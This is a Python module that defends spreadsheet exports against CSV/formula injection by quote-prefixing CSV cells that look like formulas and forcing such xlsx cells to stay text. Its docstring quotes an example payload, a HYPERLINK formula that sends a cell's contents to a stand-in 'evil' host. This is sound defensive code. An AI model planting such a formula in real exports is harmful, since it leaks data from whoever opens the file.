"""Spreadsheet exports that never run what is in them (CSV / formula injection).

A company name such as `=HYPERLINK("http://evil/?"&A1,"클릭")` becomes a live formula when a
CSV or an .xlsx opens in Excel or LibreOffice. Following the OWASP guidance, a text cell that
starts with = + - @ or a tab / carriage return is written as text:

- CSV: `safe_cell` / `safe_frame` put a single quote in front (`'=HYPERLINK(…)`);
- xlsx: `safe_xlsx` stores such cells as text with Excel's hidden quote prefix, so the cell shows
  the name exactly and Excel never evaluates it.

Numbers stay numbers: only strings are touched, so −5 is still a number.
"""
from __future__ import annotations

import io
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    """A CSV cell: a formula-like string with a leading single quote; anything else unchanged."""
    return "'" + value if is_formula_like(value) else value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy for a CSV export: every text cell through `safe_cell`, numeric columns untouched."""
    out = frame.copy()
    for column in out.columns:
        if not pd.api.types.is_numeric_dtype(out[column]) and not pd.api.types.is_bool_dtype(out[column]):
            out[column] = out[column].map(safe_cell)
    return out


def safe_xlsx(data: bytes) -> bytes:
    """An .xlsx (as bytes) with every formula or formula-like string cell stored as plain text.

    For data exports only: a workbook that means to contain formulas would lose them.
    """
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    changed = False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or is_formula_like(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True  # Excel keeps it text even when the cell is edited
                    changed = True
    if not changed:
        return data
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
